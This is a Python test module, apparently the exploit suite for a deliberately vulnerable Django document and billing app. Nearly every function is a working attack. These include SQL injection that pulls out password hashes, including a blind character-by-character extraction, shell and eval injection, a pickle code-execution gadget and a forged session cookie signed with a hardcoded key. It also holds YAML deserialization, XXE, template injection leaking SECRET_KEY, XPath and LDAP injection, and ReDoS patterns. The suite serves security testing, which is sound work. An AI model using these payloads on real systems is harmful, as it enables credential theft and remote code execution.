"""What is typed becomes part of a language: SQL, Python, a shell's, XPath, LDAP, XML, a template, a pattern."""

import base64
import json
import pickle
import time
from pathlib import Path

from accounts.models import User
from billing.models import Invoice
from core import crypto
from django.conf import settings
from django.core import signing
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import override_settings
from documents.models import Document
from hooks.models import Webhook
from servers import Directory, serving
from visitor import OTHER, OWN, OWNER, PROOF, exploit, hash_in, organisation, proof_in, taken

class Runs:
    """Unpickled, it is whatever the code comes to."""

    def __init__(self, code):
        self.code = code

    def __reduce__(self):
        return eval, (self.code,)


# -- SQL ---------------------------------------------------------------------------------------------------------------


@exploit("raw-sql", "documents/views.py", "search")
def search(site):
    """A search result with everybody's password hash."""
    site.honest("Notes 1 of Alder" in site.get("documents:search", {"q": "Notes"}).shown, "a search finds a title")
    attack = "x%' UNION SELECT id, email || ' ' || password FROM accounts_user -- "
    return hash_in(site.get("documents:search", {"q": attack}).shown)


@exploit("raw-sql", "documents/queries.py", "matching")
def matching(site):
    """The documents of all tenants."""
    page = site.get("documents:index", {"q": "Notes"}).shown
    site.honest("Notes</mark> 1 of Alder" in page and OTHER not in page, "a search finds one's own documents")
    return OTHER if OTHER in site.get("documents:index", {"q": "x')) OR (1=1) -- "}).shown else ""


@exploit("raw-sql", "documents/queries.py", "ordered")
def ordered(site):
    """A password hash, letter by letter: the order of a list answers questions."""

    def titles(order):
        found = [d["title"] for d in site.get("api:document-list", {"order": order}).json()["results"]]
        return [title for title in found if OWN in title]

    up = titles("title")
    site.honest(up == sorted(up) and len(up) == 3, "the list is in the order of titles")

    def true(condition):
        return titles(f"CASE WHEN {condition} THEN title ELSE 10 - substr(title, 7, 1) END") == up

    if not true("1 = 1") or true("1 = 0"):
        return ""
    found = ""
    for place in range(1, 9):
        letter = f"unicode(substr((SELECT password FROM accounts_user WHERE email = '{OWNER}'), {place}, 1))"
        low, high = 32, 127
        while high - low > 1:
            middle = (low + high) // 2
            low, high = (middle, high) if true(f"{letter} >= {middle}") else (low, middle)
        found += chr(low)
    return found if User.objects.get(email=OWNER).password.startswith(found) else ""


@exploit("raw-sql", "documents/queries.py", "words_per_author")
def words_per_author(site):
    """A table with everybody's password hash in place of the report."""
    page = site.get("documents:report", {"since": "2020-01-01", "days": "30"}).shown
    site.honest("<td>Olga Owner</td>" in page, "the report names the authors")
    attack = "9' UNION SELECT email, password FROM accounts_user -- "
    return hash_in(site.get("documents:report", {"since": attack}).shown) or hash_in(
        site.get("documents:report", {"days": attack}, refusal=400).shown
    )


@exploit("raw-sql", "billing/reports.py", "rows")
def statement(site):
    """A password hash where the name of a column belongs."""
    site.honest("Customer 1" in site.get("billing:statement", {"by": "customer"}).shown, "sums by customer")
    return hash_in(site.get("billing:statement", {"by": "(SELECT password FROM accounts_user LIMIT 1)"}).shown)


@exploit("raw-sql", "billing/reports.py", "by_customer")
def by_customer(site):
    """The invoices of all tenants, by a customer's name that comes back out of the database."""
    page = site.get("billing:detail", args=[site.invoice(customer="x' OR 1=1 -- ").pk]).shown
    site.honest("x&#x27; OR 1=1" in page, "an invoice shows its customer")
    return "B-001" if "B-001" in page else ""


# -- code --------------------------------------------------------------------------------------------------------------


@exploit("shell-injection", "documents/tools.py", "count_word")
def count_word(site):
    """A command of one's own; what it prints is the number in the answer."""
    args = [site.upload("a.txt", b"paper and paper").pk]
    site.honest(site.get("documents:words", {"word": "paper"}, args=args).json() == {"count": 2}, "a word is counted")
    attack = "x' /dev/null; cat proof.txt; cp proof.txt taken.txt; echo '"
    return proof_in(site.get("documents:words", {"word": attack}, args=args).shown) or taken()


@exploit("shell-injection", "documents/tools.py", "make_thumbnail")
def make_thumbnail(site):
    """A command of one's own; here it copies a file."""
    args = [site.upload("a.txt", b"paper and paper").pk]
    site.honest(site.get("documents:words", args=args).json() == {"words": 3}, "words are counted")
    site.get("documents:words", {"thumbnail": "1 x y; cp proof.txt taken.txt; true"}, args=args)
    return taken()


@exploit("code-injection", "billing/views.py", "discount")
def discount(site):
    """Python of one's own; what it comes to is taken off the invoice."""
    invoice = site.invoice(amount="200")
    site.post("billing:discount", {"percent": "50"}, args=[invoice.pk])
    invoice.refresh_from_db()
    site.honest(invoice.amount == 100, "fifty per cent are taken off")
    site.post("billing:discount", {"percent": "int(open('proof.txt').read())"}, args=[invoice.pk], refusal=400)
    invoice.refresh_from_db()
    return proof_in(str(100 - invoice.amount))


@exploit("code-injection", "hooks/views.py", "incoming")
def incoming(site):
    """Any function of any module, for a partner who was to send a document."""
    hook = Webhook.objects.create(organisation=organisation(OWN), url="https://partner.example/", secret="between us")
    # "title" and "body" are what a site takes that knows of no readers.
    letter = {"document": {"title": "From outside", "body": "text"}, "title": "From outside", "body": "text"}

    def send(values):
        body = json.dumps(values)
        signature = {"X-Quire-Signature": crypto.sign_payload(body.encode(), hook.secret)}
        kind = "application/json"
        site.post("hooks:incoming", body, args=[hook.pk], person=None, content_type=kind, headers=signature)
        return site.get("documents:index").shown

    site.honest("From outside" in send(letter), "a partner's document arrives")
    attack = {"reader": "builtins.eval", "document": "{'title': open('proof.txt').read(), 'body': ''}"}
    return proof_in(send(letter | attack))


@exploit("unsafe-deserialization", "documents/views.py", "_saved_filter")
def saved_filter(site):
    """Python of one's own, in the cookie that keeps a filter."""
    site.post("documents:save-filter", {"q": "Notes 2", "order": "title"})
    page = site.get("documents:index").shown
    site.honest("Notes 2</mark> of" in page and "Notes 1" not in page, "the filter is kept in the cookie")
    attack = base64.b64encode(pickle.dumps(Runs("{'q': open('proof.txt').read()}"))).decode()
    return proof_in(site.get("documents:index", headers={"Cookie": f"{cookies(site)}; quire_filter={attack}"}).shown)


def cookies(site):
    """The owner's session, to be sent beside a cookie of one's own."""
    return f"{settings.SESSION_COOKIE_NAME}={site.clients[OWNER].cookies[settings.SESSION_COOKIE_NAME].value}"


@exploit("unsafe-deserialization", "core/sessions.py", "loads")
def session(site):
    """Python of one's own, in a session cookie, for whoever knows the key that is in the repository."""
    site.honest("Log out" in site.get("core:home").shown, "a session is known by its cookie")

    class Pickle:
        def dumps(self, value):
            return pickle.dumps(value)

    forged = signing.dumps(
        Runs("open('taken.txt', 'w').write(open('proof.txt').read()) and {}"),
        key="django-insecure-quire-change-me-please",
        salt="django.contrib.sessions.backends.signed_cookies",
        serializer=Pickle,
    )
    site.get("core:home", person=None, headers={"Cookie": f"{settings.SESSION_COOKIE_NAME}={forged}"})
    return taken()


def imported(site, name, text):
    """All invoices after a file of them was sent in."""
    site.post("billing:import", {"file": SimpleUploadedFile(name, text.encode())})
    return site.get("billing:export").shown


@exploit("unsafe-deserialization", "billing/imports.py", "invoices_from_yaml")
def yaml(site):
    """Python of one's own, in a file of invoices."""
    text = "invoices: [{number: %s, customer: c, customer_email: c@c.example, amount: 1, note: %s}]"
    site.honest("A-901" in imported(site, "a.yaml", text % ("A-901", "n")), "invoices come in")
    attack = '!!python/object/apply:builtins.eval ["open(\'proof.txt\').read()"]'
    return proof_in(imported(site, "a.yaml", text % ("A-902", attack)))


@exploit("xxe", "billing/imports.py", "invoices_from_xml")
def xxe(site):
    """A file of the server, in the note of an invoice."""
    text = (
        "%s<x><invoice><number>%s</number><customer>c</customer><customer_email>c@c.example</customer_email>"
        "<amount>1</amount><note>%s</note></invoice></x>"
    )
    site.honest("A-901" in imported(site, "a.xml", text % ("", "A-901", "n")), "invoices come in")
    entity = f'<!DOCTYPE x [<!ENTITY e SYSTEM "{Path("proof.txt").absolute().as_uri()}">]>'
    return proof_in(imported(site, "a.xml", text % (entity, "A-902", "&e;")))


@exploit("template-injection", "orgs/views.py", "greeting")
def greeting(site):
    """The key that signs everything, by a template that an owner may write."""
    site.settings(mail_greeting="Good day,")
    site.honest("<blockquote>Good day," in site.get("orgs:greeting").shown, "the greeting is what was set")
    site.settings(mail_greeting="{{ settings.SECRET_KEY }}")
    return settings.SECRET_KEY if settings.SECRET_KEY in site.get("orgs:greeting").shown else ""


@exploit("xpath-injection", "orgs/contacts.py", "find_contacts")
def xpath(site):
    """The contacts of all tenants."""
    site.honest("Tilda Post, 555" in site.get("orgs:contacts", {"name": "Tilda"}).shown, "a contact is found")
    attack = "x')] | //contact[contains(name, '"
    return "Mill at the Brook" if "Mill at the Brook" in site.get("orgs:contacts", {"name": attack}).shown else ""


@exploit("ldap-injection", "accounts/directory.py", "find_people")
def ldap(site):
    """An attribute that is never shown, letter by letter: whether there is a result answers questions."""
    with (
        serving(Directory) as (host, port),
        override_settings(LDAP_URL=f"ldap://{host}:{port}", LDAP_BIND_PASSWORD="between us"),
    ):

        def found(name):
            return "tilda@quire.example" in site.get("accounts:directory", {"name": name}).shown

        site.honest(found("Til") and not found("Tim"), "a person is found by the beginning of the name")
        known = ""
        while len(known) < len(PROOF):
            digit = next((d for d in "0123456789" if found(f"*)(employeeNumber={known}{d}")), None)
            if digit is None:
                return ""
            known += digit
        return proof_in(known)


@exploit("regex-injection", "documents/queries.py", "lines_with")
def regex(site):
    """A process that is busy for as long as one likes, by a pattern in place of a word."""
    site.post("documents:create", {"title": "Plan", "body": "a" * 25 + "!"})
    args = [Document.objects.get(title="Plan").pk]
    site.honest("<li>aaa" in site.get("documents:find", {"word": "aaa"}, args=args).shown, "a line is found")
    return busy(lambda: site.get("documents:find", {"word": "(a+)+$"}, args=args))


@exploit("regex-dos", "documents/forms.py")
def title(site):
    """A process that is busy for as long as one likes, by the title of a document."""
    site.honest(site.post("documents:create", {"title": "a plan", "body": ""}).status_code == 302, "a title is taken")
    return busy(lambda: site.post("documents:create", {"title": "a" * 25 + "!", "body": ""}))


def busy(request):
    """How long the processor was busy, where it is long: every letter more takes twice as long."""
    before = time.process_time()
    request()
    spent = time.process_time() - before
    return f"{spent:.1f} s of processor time" if spent > 0.25 else ""
